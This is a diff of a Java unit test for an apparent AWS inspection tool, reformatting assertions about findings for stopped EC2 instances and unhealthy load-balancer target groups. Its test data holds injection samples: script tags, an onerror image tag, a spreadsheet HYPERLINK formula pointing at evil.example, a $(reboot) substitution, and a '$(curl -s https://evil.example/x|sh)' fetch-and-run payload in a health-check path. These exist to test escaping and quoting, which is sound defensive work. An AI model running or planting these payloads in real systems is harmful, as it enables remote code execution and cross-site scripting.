@@ -85,9 +85,10 @@ class AwsInspectionTest {
         List<Finding> findings = inspect(new Ec2NodegroupInstancesCheck(TARGETS));
 
         // the instance without a node group tag is no managed node
-        assertThat(described(findings)).containsExactly(tuple("AWS-103", Severity.P2, Resource.of("Instance", "i-0stopped"),
-                "EC2 instance i-0stopped of node group prod<script>alert(1)</script>/=HYPERLINK("
-                        + "\"https://evil.example\",\"general\") is stopped"));
+        assertThat(described(findings)).containsExactly(
+                tuple("AWS-103", Severity.P2, Resource.of("Instance", "i-0stopped"),
+                        "EC2 instance i-0stopped of node group prod<script>alert(1)</script>/=HYPERLINK("
+                                + "\"https://evil.example\",\"general\") is stopped"));
         assertThat(findings.get(0).remediation()).contains("--nodegroup-name '=HYPERLINK(\"https://evil.example\","
                 + "\"general\")' --query").endsWith("eks.amazonaws.com/nodegroup='=HYPERLINK(\"https://evil.example\","
                 + "\"general\")'");
@@ -138,17 +139,19 @@ class AwsInspectionTest {
         List<Finding> path = inspect(new ElbHealthCheckPathCheck(TARGETS));
 
         // a draining target is not unhealthy, and none is healthy: P0
-        assertThat(described(health)).containsExactly(tuple("AWS-301", Severity.P0, Resource.of("TargetGroup", FORMULA_TG),
-                "Target group " + FORMULA_TG + ": 2 of 3 targets unhealthy"));
+        assertThat(described(health)).containsExactly(
+                tuple("AWS-301", Severity.P0, Resource.of("TargetGroup", FORMULA_TG),
+                        "Target group " + FORMULA_TG + ": 2 of 3 targets unhealthy"));
         assertThat(health.get(0).evidence()).containsEntry("targets", "10.0.1.24:-1 Target.ResponseCodeMismatch "
                 + "(Health checks failed with these codes: [500]\r\n<img src=x onerror=alert(1)>); i-0$(reboot) no "
                 + "reason given");
         // the path is one quoted word of curl, whatever it holds
         assertThat(health.get(0).remediation())
                 .endsWith("curl http://localhost:8080'/$(curl -s https://evil.example/x|sh)\r\n<script>'");
-        assertThat(described(path)).containsExactly(tuple("AWS-302", Severity.P2, Resource.of("TargetGroup", FORMULA_TG),
-                "Target group " + FORMULA_TG + " health-checks /$(curl -s https://evil.example/x|sh)\r\n<script>, "
-                        + "not /api/health"));
+        assertThat(described(path)).containsExactly(
+                tuple("AWS-302", Severity.P2, Resource.of("TargetGroup", FORMULA_TG),
+                        "Target group " + FORMULA_TG + " health-checks "
+                                + "/$(curl -s https://evil.example/x|sh)\r\n<script>, not /api/health"));
     }
 
     @Test
